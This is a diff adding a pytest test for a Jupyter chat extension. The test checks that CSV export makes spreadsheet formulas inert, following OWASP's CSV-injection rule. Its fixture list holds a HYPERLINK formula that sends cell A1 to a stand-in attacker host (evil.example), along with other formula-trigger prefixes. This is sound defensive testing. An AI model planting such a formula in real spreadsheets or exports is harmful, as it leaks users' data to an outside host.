@@ -802,3 +802,28 @@ def test_interrupting_a_schema_reply_keeps_its_text_and_gives_no_object(typed_ns
     *text, footer = shown(captured)
     assert "".join(o["data"]["text/html"] for o in text) == render_markdown(last.content)
     assert "interrupted" in footer["data"]["text/plain"]
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
+            "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_export_csv_makes_formulas_inert_and_leaves_the_dataframe_alone(ip, fake_api, tmp_path):
+    """OWASP's CSV-injection rule: a cell starting with = + - @ tab or CR gets a ' in front, and
+    every cell is quoted; the DataFrame and the JSON export keep the text as the model wrote it."""
+    import csv
+
+    fake_api.enqueue(*(Script(chunks=[text]) for text in FORMULAS))
+    with capture_output():
+        for i in range(len(FORMULAS)):
+            ip.run_cell_magic("oxen", "", f"formula {i}")
+        ip.run_line_magic("oxen", f"export {tmp_path / 'chat.csv'}")
+    with open(tmp_path / "chat.csv", newline="", encoding="utf-8") as file:
+        rows = list(csv.DictReader(file))
+    text = (tmp_path / "chat.csv").read_text(encoding="utf-8")
+    assert [r["content"] for r in rows if r["role"] == "assistant"] == ["'" + f for f in FORMULAS]
+    assert [r["content"] for r in rows if r["role"] == "user"] == [f"formula {i}" for i in range(6)]
+    header = text.split("\n", 1)[0]
+    assert header.startswith('"') and header.count('","') == len(rows[0]) - 1  # every cell quoted
+    frame = oxen_notebook.default_session().to_dataframe()
+    assert frame["content"].tolist()[1::2] == FORMULAS
